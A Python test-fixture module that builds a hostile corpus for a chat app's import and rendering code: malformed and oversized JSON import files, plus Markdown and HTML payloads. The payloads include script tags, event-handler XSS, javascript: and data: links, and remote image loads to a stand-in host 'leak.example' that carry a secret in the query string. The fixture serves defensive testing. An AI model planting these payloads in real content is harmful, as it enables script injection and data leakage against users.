"""The app's half of the hostile corpus: import files and chat texts an attacker (or a broken tool)
could send. Built from tables, so each kind of damage is tried on every field it applies to.

IMPORT_FILES: name -> bytes. Each must be refused with an InvalidImport that says what is wrong, or
(for the valid-but-hostile ones in VALID_HOSTILE_IMPORTS) imported and shown safely.
CHAT_TEXTS: name -> a question typed into the chat.
MARKDOWN_PAYLOADS: text that tries to load a remote image or run a script when rendered.
"""

from __future__ import annotations

import json

from minicpm_core.store import EXPORT_FORMAT, MAX_IMPORT_BYTES, MAX_MESSAGE_CHARS, MAX_MESSAGES, MAX_TITLE_CHARS

HOST = "leak.example"  # the attacker's image host
PWNED = "window.__pwned = 1"

MARKDOWN_PAYLOADS = [
    f"![x](http://{HOST}/plain.png?q=secret)",
    f"![x](https://{HOST}/https.png 'title')",
    f"[![nested](http://{HOST}/nested.png)](https://example.org)",
    f"![ref][img]\n\n[img]: http://{HOST}/reference.png",
    f"![shortcut]\n\n[shortcut]: http://{HOST}/shortcut.png",
    f"> quoted ![q](http://{HOST}/quote.png)",
    f"- listed ![l](http://{HOST}/list.png)",
    f"| a |\n|---|\n| ![t](http://{HOST}/table.png) |",
    f"# heading ![h](http://{HOST}/heading.png)",
    f"<img src=http://{HOST}/html.png>",
    f'<img src=x onerror="{PWNED}">',
    f"<script>{PWNED}</script>",
    f'<svg onload="{PWNED}"></svg>',
    f"<iframe src=http://{HOST}/frame></iframe>",
    f'<a href="javascript:{PWNED}">html link</a>',
    f"[js link](javascript:{PWNED.replace(' ', '')})",
    f"[JS link](JaVaScRiPt:{PWNED.replace(' ', '')})",
    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "<data:text/html,<script>window.__pwned=1</script>>",
    f"[ref js][js]\n\n[js]: javascript:{PWNED.replace(' ', '')}",
    f"$$\\href{{javascript:{PWNED.replace(' ', '')}}}{{katex}}$$",
    f"<style>@import url(http://{HOST}/style.css);</style>",
    f'<video poster="http://{HOST}/poster.png"></video>',
]

OK_MESSAGES = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello!"}]


def _export(**fields) -> dict:
    return {"format": EXPORT_FORMAT, "title": "t", "messages": OK_MESSAGES, **fields}


def _encode(value) -> bytes:
    return json.dumps(value, ensure_ascii=False, allow_nan=True).encode("utf-8", "surrogatepass")


WRONG_TYPES = {"null": None, "true": True, "number": 7, "float": 1.5, "list": [1], "object": {"a": 1},
               "string": "x", "empty list": []}
BAD_META_VALUES = {"text": "fast", "negative": -5000, "bool": True, "list": [1], "object": {"a": 1},
                   "nan": float("nan"), "infinity": float("inf"), "huge": 10**30}


def _import_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    # Not JSON, or not a conversation at all.
    raw = {
        "empty": b"", "spaces": b"   \n\t ", "truncated": b'[{"role": "user", "content": "hi"', "trailing comma":
        b'[{"role": "user", "content": "hi"},]', "single quotes": b"[{'role': 'user', 'content': 'hi'}]",
        "yaml": b"- role: user\n  content: hi\n", "bad utf-8": b'[{"role": "user", "content": "\xff\xfe"}]',
        "utf-16": '[{"role": "user", "content": "hi"}]'.encode("utf-16"), "nul bytes": b"\x00" * 64,
        "binary": bytes(range(256)), "html": b"<html><script>alert(1)</script></html>",
        "deep list": b"[" * 100_000 + b"]" * 100_000, "deep object": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "deep content": b'[{"role": "user", "content": ' + b"[" * 5000 + b"]" * 5000 + b"}]",
        "too large": b"[" + b" " * MAX_IMPORT_BYTES + b"]",
        "json number": b"42", "json string": b'"hello"', "json null": b"null", "json true": b"true",
        "lone surrogate content": b'[{"role": "user", "content": "\\ud800"}]',
        "lone surrogate title": b'{"title": "\\udfff", "messages": []}',
        "lone surrogate meta": b'[{"role": "user", "content": "a", "meta": {"k": "\\ud800"}}]',
        "lone surrogate meta key": b'[{"role": "user", "content": "a", "meta": {"\\ud800": 1}}]',
        "lone surrogate role": b'[{"role": "\\ud800", "content": "a"}]',
    }
    files.update({f"raw: {name}": data for name, data in raw.items()})
    for fmt in ("", "minicpm-chat/v3", "MINICPM-CHAT/V1", "openai", " minicpm-chat/v1"):
        files[f"format tag {fmt!r}"] = _encode(_export(format=fmt))
    for name, value in WRONG_TYPES.items():
        if value is not None:
            files[f"format {name}"] = _encode(_export(format=value))
        if not isinstance(value, str) and value is not None:
            files[f"title {name}"] = _encode(_export(title=value))
        if not isinstance(value, list):
            files[f"messages {name}"] = _encode(_export(messages=value))
        if not isinstance(value, dict):
            files[f"message {name}"] = _encode([OK_MESSAGES[0], value])
        if not isinstance(value, str):
            files[f"role {name}"] = _encode([{"role": value, "content": "a"}])
            if value != []:
                files[f"content {name}"] = _encode([{"role": "user", "content": value}])
        if not isinstance(value, dict) and value is not None:
            files[f"meta {name}"] = _encode([{"role": "assistant", "content": "a", "meta": value}])
    for key in ("prompt_tokens", "completion_tokens", "turns_dropped", "tokens_per_second", "finish_reason",
                "params"):
        for name, value in BAD_META_VALUES.items():
            if (key, name) in (("tokens_per_second", "huge"), ("params", "object")):
                continue  # a big speed is still a number; params is any object
            files[f"meta {key} {name}"] = _encode([{"role": "assistant", "content": "a", "meta": {key: value}}])
    for role in ("bot", "User", "tool", "", " user", "assistant\n"):
        files[f"role {role!r}"] = _encode([{"role": role, "content": "a"}])
    files["no role"] = _encode([{"content": "a"}])
    files["no content"] = _encode([{"role": "user"}])
    files["image part"] = _encode([{"role": "user", "content": [{"type": "image_url", "image_url": "http://x"}]}])
    files["part without text"] = _encode([{"role": "user", "content": [{"type": "text"}]}])
    files["no messages key"] = _encode({"format": EXPORT_FORMAT, "title": "t"})
    files["too many messages"] = _encode([{"role": "user", "content": ""}] * (MAX_MESSAGES + 1))
    files["message too long"] = _encode([{"role": "user", "content": "x" * (MAX_MESSAGE_CHARS + 1)}])
    files["one long message among many"] = _encode(OK_MESSAGES * 10 + [{"role": "user", "content": "y" * (
        MAX_MESSAGE_CHARS + 1)}])
    return files


def _valid_hostile_imports() -> dict[str, bytes]:
    """Valid files whose text is hostile: they import, and must be shown safely."""
    files = {f"markdown payload {i}": _encode([{"role": "user", "content": p}, {"role": "assistant", "content": p}])
             for i, p in enumerate(MARKDOWN_PAYLOADS)}
    files["title payload"] = _encode(_export(title=f"![t](http://{HOST}/t.png) <script>{PWNED}</script> **b**"))
    files["huge title"] = _encode(_export(title="T" * (MAX_TITLE_CHARS * 100)))
    files["control characters"] = _encode([{"role": "user", "content": "a\x00b\x07c\x1b[31md\u202ee\ufeff"}])
    files["most messages allowed"] = _encode([{"role": "user", "content": "q"}] * MAX_MESSAGES)
    files["longest message allowed"] = _encode([{"role": "assistant", "content": "z" * MAX_MESSAGE_CHARS}])
    files["unknown meta keys kept"] = _encode([{"role": "assistant", "content": "a", "meta": {"x": {"y": [1]}}}])
    return files


IMPORT_FILES = _import_files()
VALID_HOSTILE_IMPORTS = _valid_hostile_imports()

CHAT_TEXTS = {
    **{f"markdown payload {i}": p for i, p in enumerate(MARKDOWN_PAYLOADS)},
    "control characters": "a\x00b\x07c\x1b[31md\u202ee",
    "only whitespace and zero-width": "\u200b\u200b",
    "huge question": "river " * 40_000,
    "many lines": "\n".join(["line"] * 5000),
    "unclosed code fence": "```python\nprint(",
    "latex bomb": "$" + "\\frac{1}{" * 200 + "}" * 200 + "$",
}
